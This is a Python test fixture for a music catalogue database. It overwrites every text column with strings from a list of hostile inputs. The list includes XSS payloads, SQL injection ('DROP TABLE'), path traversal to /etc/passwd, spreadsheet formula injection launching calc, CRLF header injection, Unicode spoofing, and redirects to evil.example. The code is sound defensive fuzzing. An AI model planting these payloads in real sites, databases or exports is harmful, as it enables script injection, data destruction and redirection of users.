"""A catalogue in which every text that comes from outside is an attack, or at least in bad taste."""

from __future__ import annotations

from itertools import cycle
from pathlib import Path

import apsw

STRINGS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "'><iframe src=javascript:alert(4)>",
    "</title><script>alert(5)</script>",
    "</textarea><script>alert(6)</script>",
    "javascript:alert(7)",
    "data:text/html,<script>alert(8)</script>",
    "{{ 7*7 }}{% for x in ().__class__ %}",
    "${alert(9)}",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=q>",
    '" onmouseover="alert(10)" x="',
    "' onfocus='alert(11)' autofocus='",
    "&lt;script&gt;alert(12)&lt;/script&gt;",
    "<a href=javascript:alert(13)>play</a>",
    "<math><mtext><script>alert(14)</script>",
    "]]><script>alert(15)</script><!--",
    "\u202egnp.exe\u202c",
    "\u2066\u2067isolates\u2069\u2069",
    "zero\u200bwidth\ufeff\u2060",
    "a\x00b\x1b[31mred\x07",
    "two\r\nlines\tSet-Cookie: a=b",
    "../../../etc/passwd",
    "%00%0d%0aX-Header: 1",
    "\\u003cscript\\u003ealert(16)",
    "Z\u0351\u036b\u0343\u032a\u0302\u036b\u033d\u034f\u0334\u0319a\u0328\u035a\u031c" * 12,
    "x" * 5000,
    "🏴‍☠️👩‍👩‍👧‍👦" * 40,
    "שלום \u200f<b>עולם</b>",
    "مرحبا<script>alert(17)</script>",
    "'; DROP TABLE track; --",
    '{"id":"x","title":"</script>"}',
    "=cmd|' /C calc'!A0",
    "<noscript><p title='</noscript><img src=x onerror=alert(18)>'>",
    "<template><script>alert(19)</script></template>",
    "<object data=javascript:alert(20)>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<plaintext>",
    "\ufffe\uffff\U0010ffff",
)

_COLUMNS = {
    "track": ("title",),
    "release": ("title", "country", "catalogue_number"),
    "artist": ("name", "sort_name", "disambiguation", "country"),
    "kind": ("name",),
    "label": ("name",),
    "genre": ("name",),
    "credit": ("name", "join_phrase"),
    "licence": ("title", "uri"),
    "rights": ("stated", "stated_by", "note"),
    "event_date": ("problem",),
    "status_reason": ("reason",),
    "medium": ("format", "title"),
    "link": ("rel", "url"),
    "identifier": ("scheme", "value"),
    "note": ("value",),
    "thing": ("name", "sort_name", "disambiguation", "country", "language"),
    "file": ("name", "codec", "problem", "url"),
    "correction": ("field", "was", "now", "because"),
    "source": ("title", "url", "credit", "licence"),
    "claim": ("sentence", "procedure", "unit"),
    "status": ("sentence",),
}
_KEEP = {("file", "problem"): " WHERE problem IS NOT NULL"}  # a file with a problem is not playable


def make_hostile(catalogue: Path) -> int:
    """Put a hostile string into every such field of a finished catalogue; the number of fields that got one."""
    db = apsw.Connection(str(catalogue))
    strings = cycle(STRINGS)
    changed = 0
    with db:
        for table, columns in _COLUMNS.items():
            for column in columns:
                changed += _spoil(db, table, column, strings)
    db.close()
    return changed


def _spoil(db: apsw.Connection, table: str, column: str, strings: cycle[str]) -> int:
    keys = [row[1] for row in db.execute(f"PRAGMA table_info({table})") if row[5]]
    condition = " AND ".join(f"{key} IS ?" for key in keys)
    found = list(db.execute(f"SELECT {', '.join(keys)} FROM {table}{_KEEP.get((table, column), '')}"))
    for number, key in enumerate(found):
        text = next(strings)
        if column in keys or column == "url":
            text = f"{text} {number}" if column != "url" else text  # a key stays unique; addresses are as they are
        try:
            db.execute(f"UPDATE {table} SET {column} = ? WHERE {condition}", (text, *key))
        except apsw.ConstraintError:
            db.execute(f"UPDATE {table} SET {column} = ? WHERE {condition}", (f"{text} {number}", *key))
    return len(found)
